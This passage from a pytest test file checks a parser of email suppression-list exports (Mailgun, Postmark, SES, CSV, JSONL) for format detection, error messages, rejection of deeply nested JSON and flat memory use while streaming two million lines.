    assert "Spamhaus" in blocked.diagnostic


def test_address_and_created_at_alone_are_mailgun_only_with_its_time() -> None:
    generic = b"address,created_at\nc@example.com,2024-01-01T00:00:00Z\n"
    assert detected(generic) == "csv"
    assert [r.reason for r in rows(generic)] == [None]
    assert detected(MAILGUN_COMPLAINTS) == "mailgun"


@pytest.mark.parametrize(
    ("data", "fmt", "line", "message"),
    [
        (b"address,foo\na@example.com,1\n", "mailgun", 1, "not a Mailgun export"),
        (b"Email,Reason\na@example.com,x\n", "postmark", 1, "not a Postmark export"),
        (b'{"items": 3}', "mailgun", 1, "expected one of ["),
        (b"SUPPRESSEDDESTINATIONSUMMARIES\ta@example.com\tBOUNCE\n", "ses", 1, "not SES text"),
        (b"email,created\na@example.com,yesterday\n", "csv", 2, "'yesterday' is not a time"),
        (b'{"email": "a@example.com", "created": "soon"}\n', "jsonl", 1, "is not a time"),
    ],
)
def test_vendor_and_time_errors(data: bytes, fmt: str, line: int, message: str) -> None:
    with pytest.raises(FormatError) as caught:
        rows(data, fmt)
    assert (caught.value.line, message in caught.value.message) == (line, True), caught.value


@pytest.mark.parametrize(
    ("data", "fmt"),
    [
        (b"[" * 100_000 + b"]" * 100_000 + b"\n", "jsonl"),
        (b'{"email": ' + b"[" * 100_000 + b"]" * 100_000 + b"}\n", "jsonl"),
        (b"[" * 100_000 + b"]" * 100_000 + b"\n", "auto"),
        (b'{"SuppressedDestinationSummaries": [' + b"[" * 100_000, "ses"),
        (b'{"items": [' + b'{"a": [' * 50_000 + b"]}" * 50_000 + b"]}", "mailgun"),
    ],
)
def test_deeply_nested_json_is_a_clear_error(data: bytes, fmt: str) -> None:
    with pytest.raises(FormatError, match=r"^list\.txt:1: JSON nested too deeply$"):
        rows(data, fmt)


# Memory ---------------------------------------------------------------------


class _Lines(io.RawIOBase):
    """A byte stream of distinct addresses, made 10,000 lines at a time as it is read."""

    def __init__(self, batches: int) -> None:
        template = b"".join(b"userBATCH%05d@example.com\n" % i for i in range(10_000))
        self._chunks = (template.replace(b"BATCH", b"%04d" % n) for n in range(batches))
        self._pending = b""

    def readable(self) -> bool:
        return True

    def readinto(self, buffer: memoryview) -> int:  # type: ignore[override]
        if not self._pending:
            self._pending = next(self._chunks, b"")
        size = min(len(buffer), len(self._pending))
        buffer[:size] = self._pending[:size]
        self._pending = self._pending[size:]
        return size


@pytest.mark.corpus
def test_reading_two_million_lines_keeps_memory_flat() -> None:
    tracemalloc.start()
    try:
        last = None
        for last in Reading(io.BufferedReader(_Lines(200)), "auto", "stdin"):  # noqa: B007
            pass
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert last == Row(2_000_000, "user019909999@example.com", "address")
    assert peak < 20 * 1024 * 1024
